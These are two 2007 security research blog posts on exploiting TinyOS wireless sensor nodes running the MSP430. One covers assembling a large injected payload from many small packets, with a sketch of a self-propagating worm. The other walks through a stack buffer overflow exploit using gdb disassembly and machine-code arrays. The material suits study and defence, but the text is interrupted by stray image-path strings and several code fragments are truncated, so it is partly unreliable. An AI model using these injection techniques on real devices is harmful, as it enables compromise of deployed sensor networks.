I'll be presenting some of my wireless sensor network security research at ToorCon 9 in San Diego on Saturday, October the 20th at 17h00 Pacific time.

I've posted the slides from the presentation at A DVD is also available; contact the conference organizers for a copy.

Sunday, September 23, 2007

Memory-Constrained Code Injection

by Travis Goodspeed <travis at>
at the Extreme Measurement Communications Center
of the Oak Ridge National Laboratory


When injecting code into an embedded system, as has demonstrated in the prior article, entitled MSP430 Buffer Overflow Exploit for Wireless Sensor Nodes, the limitation of code size frequently comes up. The following will explainhow a 128-byte packet can be used to inject an exploit much longer than itself. This method would also work in workstation and server attacks, but is less valuable in such environments because such platforms lack the prohibitive memory constraints that are to be found in embedded systems.

It is assumed that the reader is familiar with the previously referenced article, and it is further assumed that a method for injecting short fragments of machine code exists. These examples are specific to TinyOS 2.x on the MSP430, but the principles in question should be of relevance for any resource-constrained target over a datagram channel of limited packet size.


The method which will be presented makes use of unallocated memory as a buffer into which a large payload, one that is larger than any individual packet, is populated by a series of code injections, each of which loads a short piece of the larger payload before returning to normal execution.

Each packet will set a single word of memory to a word from its payload, thus copying as many words as are required from the attacker to the victim, loading them at whatever address is specified. So long as the target address lies beneath the stack and above the heap, it will not interfere with the operation of the victim's firmware and will not be damaged or overwritten by another subroutine.

The memory layout looks something like this:

(Top of Memory, 0xFFFF)
Internal Flash{
Interrupt Vector Table
Internal Ram{
Stack (grows down)
Unused (between heap and stack)
Heap (grows up, often empty)
Memory-mapped I/O
(Bottom of Memory, 0x0000)

The payload will be housed in the unused region between the stack,which grows downward from the top of memory, and the heap, which grows upward from the bottom of memory.


Suppose that an attacker is capable of broadcasting packets which allow for a six-byte payload to be executing on a victim. Further, suppose that the attacker wishes to execute a single block PB of 256 bytes of machine code at address TA, within a contiguous region and without interruption.

The attacker can craft a memory-injection (MI) packet which sets an address to a value. In MSP430 assembly, this is expressed as
MOV.W #val, &addr
which sets the word at memory location addr to val. To place the value DEAD at the memory location BEEF, one would use
MOV.W #0xdead, &0xbeef
As machine language using absolute addressing, this would be
{0x40b2, 0xdead, 0xbeef}
The latter two words may be substituted as required, making it trivial to have a function write injection code on the fly, such as

/*! Takes a pointer to a six-byte region which is populated
* with machine code for setting the value at the address.
void attackcode_set(uint16_t *code,
uint16_t address,
uint16_t value){

Thus to copy an expanse of code to the victim, the attacker would compose 128 injection attacks by composing payloads with the following loop:

//Populate the buffer MI with memory injections to place all of PB at TA
for(int i=0;i<0x50;i++)
attackcode_set(MI[i], TA+2*i, PB[i]);

Each packet of MI[] is then broadcast in any order whatsoever. As each packet is received, another two bytes near TA, the target address, are set. Thus, two bytes at a time, the whole payload is transfered to the victim. Once they've been delivered, a new injection is passed but one that doesn't execute itself. Rather, it jumps to TA tobegin the previously loaded code, all 256 bytes of it.

Injection of Complete Firmware

Once this longer payload has been installed, it can be used to copy a portion of itself to external flash. This can be repeated until a complete firmware--that is to say software which resides in internal flash--exists on external flash. Then a short loader routine could copy it from external to internal flash, thereby replacing the victim's firmware with the attacker's. If this new firmware were to begin broadcasting its own installation routine, the result would be a self-propagating worm.One should never assume that an embedded platform is safe from a sophisticated injection behavior because of the limitations imposed by a datagram networking framework, such as 802.15.4. Even without streaming or the buffering of prior packets, it's possible--in fact rather trivial--to inject a payload significantly larger than the packet size.

Please contact me if you know of any prior implementation or discussion of this technique. I would be much obliged.

Friday, August 3, 2007

MSP430 Buffer Overflow Exploit for Wireless Sensor Nodes

by Travis Goodspeed <travis at>


What follows is a detailed account of the creation of a stack-overflow exploit targeting TinyOS 2.x on a Tmote Sky wireless sensor node, which uses the Texas Instruments MSP430 microcontroller. An example application is used as a target, rather than one which might be found in the wild. A firm knowledge of C, assembly language, and embedded systems architectures is assumed, but the details of NesC, the MSP430, and TinyOS are reviewed for those new to this platform. Finally, preventative measures are discussed.

Before We Begin

By default, the NesC compiler attaches the inline keyword to every function that it generates, even if that function began as a C function. To prevent this, use __attribute__ ((noinline)). Without this attribute, you'll go through hell trying to understand a function with twenty others embedded within it. Note that the inline keyword isn't what makes these attacks possible, it just makes them easier to understand.


I'll begin with a short example which uses gdb on a local image of a simple TinyOS application. This requires msp430-gdb, but does not require a JTAG debugger or any physical hardware.

Use the "disassemble" command to view an individual function.

(gdb)disassemble RadioCountToLedsC$red
Dump of assembler code for function RadioCountToLedsC$red:
0x000053f4 <radiocounttoledsc$red+0>: mov.b #1, r15 ;r3 As==01
0x000053f6 <radiocounttoledsc$red+2>: call #21500 ;#0x53fc
0x000053fa <radiocounttoledsc$red+6>: ret
End of assembler dump.
The original source for for this was
//within RadioCountToLedsC implementation
void __attribute__ ((noinline)) red(){
call Leds.set(1);

Note that the function acts just as its C equivalent would. red+0 loads the constant #1 from the constant generator r3 into r15, the register which contains the first parameter to a C function in the MSP430 version of GCC. A call is then made to 0x53fc, which we know as Leds.set().

Disassemble also accepts an address as its argument, so let's take a peek under the hood and see what Leds.set() does.

(gdb) disassemble 0x53fc
Dump of assembler code for function LedsP$Leds$set:
0x000053fc <ledsp$leds$set+0>: push r11 ;
0x000053fe <ledsp$leds$set+2>: mov.b r15, r11 ;
0x00005400 <ledsp$leds$set+4>: call #16460 ;#0x404c
0x00005404<ledsp$leds$set+8>: mov.b r15, r14 ;
0x00005406 <ledsp$leds$set+10>: mov.b r11, r15 ;
0x00005408 <ledsp$leds$set+12>: and.b #1, r15 ;r3 As==01
0x0000540a <ledsp$leds$set+14>: jz $+10 ;abs 0x5414
0x0000540c <ledsp$leds$set+16>: and.b #-17, &0x0031 ;#0xffef
0x00005412 <ledsp$leds$set+22>: jmp $+8 ;abs 0x541a
0x00005414 <ledsp$leds$set+24>: bis.b #16, &0x0031 ;#0x0010
0x0000541a <ledsp$leds$set+30>: mov.b r11, r15 ;
0x0000541c <ledsp$leds$set+32>: and.b #2, r15 ;r3 As==10
0x0000541e <ledsp$leds$set+34>: jz $+10 ;abs 0x5428
0x00005420 <ledsp$leds$set+36>: and.b #-33, &0x0031 ;#0xffdf
0x00005426<ledsp$leds$set+42>: jmp $+8 ;abs 0x542e
0x00005428 <ledsp$leds$set+44>: bis.b #32, &0x0031 ;#0x0020
0x0000542e <ledsp$leds$set+50>: mov.b r11, r15 ;
0x00005430 <ledsp$leds$set+52>: and.b #4, r15 ;r2 As==10
0x00005432 <ledsp$leds$set+54>: jz $+10 ;abs 0x543c
0x00005434 <ledsp$leds$set+56>: and.b #-65, &0x0031 ;#0xffbf
0x0000543a <ledsp$leds$set+62>: jmp $+8 ;abs 0x5442
0x0000543c <ledsp$leds$set+64>: bis.b #64, &0x0031 ;#0x0040
0x00005442 <ledsp$leds$set+70>: mov.b r14, r15 ;
0x00005444 <ledsp$leds$set+72>: call #16480 ;#0x4060
0x00005448 <ledsp$leds$set+76>: pop r11 ;
0x0000544a <ledsp$leds$set+78>: ret
End of assembler dump.

Note that this comes from the NesC declaration of
async command void set(uint8_t val);

which suggests that commands are rendered straight to C functions with the call keyword merely calling the function. In actual usage, call is used not to determine the way in which the function is called, but whether it's allowed. A command may not be called from an interrupt handler unless it also possesses the async keyword. Note that set() would have been automatically inlined if it had not been called from multiple source functions.

Inline Assembly

Inline assembly language is quite easy as well. Suppose that we would like to find the value of the stack pointer:
  int __attribute__ ((noinline))__asm__("mov r1, r15");

The preceding code simply copies r1, the Stack Pointer, into r15, which mspgcc's ABI uses as the return register. Testing the disassembled code gives us:
(gdb) disassemble RadioCountToLedsC$getsp
Dump of assembler code for function RadioCountToLedsC$getsp:
0x000053f4 <RadioCountToLedsC$getsp+0>: mov r1, r15 ;
0x000053f6 <RadioCountToLedsC$getsp+2>: ret
End of assembler dump.

Note the use of r15 is arbitrary--different compilers use the registers for different things. I've written an article comparing IAR's ABI to that of GCC which explains the issue in detail.

Machine Language

The following msp-gdb session shows how to get the getsp() function as its machine-language bytes rather than as disassembled code:
(gdb) x/bx RadioCountToLedsC$getsp
0x53f4 <RadioCountToLedsC$getsp>: 0x0f
0x53f5 <RadioCountToLedsC$getsp+1>: 0x41
0x53f6 <RadioCountToLedsC$getsp+2>: 0x30
0x53f7 <RadioCountToLedsC$getsp+3>: 0x41In the above example, x/bx means "examine as hexadecimal bytes." I could also have used x/hx to examine half-word bytes (words are 32 bit here, not 16), but the little-endian nature of thetarget platform makes that a little confusing, as the bytes are printed out of order.

What this means is that we can declare a C byte array of {0x0f,0x41,0x30,0x41} or a string of "\x0f\x41\x30\x41" at any even address and execute a call to its address in order to execute it. The even addressing is essential, as r0--the PC--cannot hold an unaligned address and unaligned word accesses are not supported by the MSP430. Because this architecture is little endian, the code as a 16-bit integer array is not {0x0f41, 0x3041} but rather {0x410f,0x4130}.

I've been using gcc and gdb to generate machine code, but the mspgcc project has made a single-instruction assembler available through the web. Remember that it gives results as little-endian words.

Instruction Emulation

It's important to realize that MSP430 assembly language contains many statements which don't exist on the physical chip. Instead they're emulated by translation in the assembler.For example, suppose we have the following function using inline assembly:
  void __attribute__ ((noinline))
asm("inv &0x0031");

INV is an emulated instruction which flips the bits of its destination by XORing them with 0xFFFF. Why should the chip have a separate instruction, when the programmer could simply call XOR #-1,&0x0031? In practice, that iswhat happens as our disassembly shows:
(gdb) disassemble BlinkC$setled
Dump of assembler code for function BlinkC$setled:
0x00004712 <BlinkC$setled+0>: xor #-1, &0x0031 ;r3 As==11
0x00004716 <BlinkC$setled+4>: ret
End of assembler dump.

Machine Language Execution Example

After a bit of effort, which would've been greatly reduced if my Flash Emulation Tool had arrived, I came up with the following piece of code:
int machlang[15]={
0xe3b2, 0x0031, //xor #-1,&0x31 (emulating INV)
0x4130 //retint (*machfn)() = NULL;
machfn= (int (*)()) machlang;

The above code executes the machine language code to blink the LED by inverting the memory-mapped port at 0x31. The integers of machlang() may reside anywhere in the memory space, which is to say anywhere in RAM or ROM.

Buffer Overflow Stack Injection

Machine language injection works by virtue of the call stack, which grows downward in TinyOS from nearly the top of RAM (high address) to the bottom of RAM (low address, 0x200). When a function begins, the stack's lowest word contains the address of the calling function, such that when a function calls the "RET" instruction, it copies a value from the address pointed to by R1 (SP) into R0 (PC) and increments R1 to shrink the stack by a word.

The following code overwrites the stack's stored copy of the calling PC such that when it returns, control jumps to machlang instead of the calling function:
void __attribute__ ((noinline))
//call it the rude way by overwriting the return address
int *oldpc=&oldpc;//point to top of frame
oldpc++;//inc by 2, not 1
*oldpc=machlang;//overwrite old PC
return;//return to machlang, not calling function

In the above code, the pointer oldpc is declared and incremented such that it points at the stack value pushed before itself, which is of course the stored PC value that the function will jump to when it returns. When return; is called, the processor jumps not to the calling function but rather to the machine code, causing it to be executed.Buffer overflow injections work in a similar way, but rather than set the pointer explicitly by C code, they instead have a string that--when copied into a buffer--exceeds the end of the buffer and writes to the next position. The following code does just that, by calling strcpy() on a string composed of the machine language entry address repeated many times.
//code fragment: compositionfunction
//compose a null-terminated string
//of repeating machlang addresses

//code fragment, copying function
char cmd[6]="Hello";
return;//to machlang//new machlang to enter an infinite loop.
int machlang[30]={
0xe3b2, 0x0031, //xor #-1,&0x31 (emulating INV)

